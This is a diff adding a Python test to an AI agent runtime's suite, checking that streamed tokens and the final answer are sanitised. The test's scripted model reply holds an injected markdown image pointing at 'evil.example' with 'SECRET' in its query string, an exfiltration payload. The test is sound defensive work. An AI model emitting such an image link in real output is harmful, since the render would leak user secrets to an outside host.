@@ -64,6 +64,24 @@ def test_stream_yields_steps_as_nodes_finish_then_tokens_then_the_answer(tmp_pat
     rt.close()
 
 
+def test_streamed_tokens_are_sanitised_like_the_answer(tmp_path, fake):
+    """A client renders tokens as they come: an injected image must not appear there either."""
+    agent = define_agent("s", "S.", tools=[lookup], tool_mode="json")
+    fake.script = [
+        Reply(content='{"tool": "final_answer"}'),
+        Reply(content="The value ![x](https://evil.example/p.png?d=SECRET) is known [1]."),
+    ]
+    rt = make_runtime(tmp_path, fake)
+    events = list(rt.stream(agent, "What is k?", "alice"))
+    shown = "".join(e.data["text"] for e in events if e.kind == "token")
+    assert shown == "The value  is known [1]."
+    answer = events[-1].data["answer"]
+    assert "evil.example" not in answer.text
+    recs = [r for r in rt.services.audit.records(answer.run_id) if r.kind == "security.stream_sanitized"]
+    assert recs and recs[0].data["removed"] == ["![x](https://evil.example/p.png?d=SECRET)"]
+    rt.close()
+
+
 # ---------------------------------------------------------------------- budgets
 
 
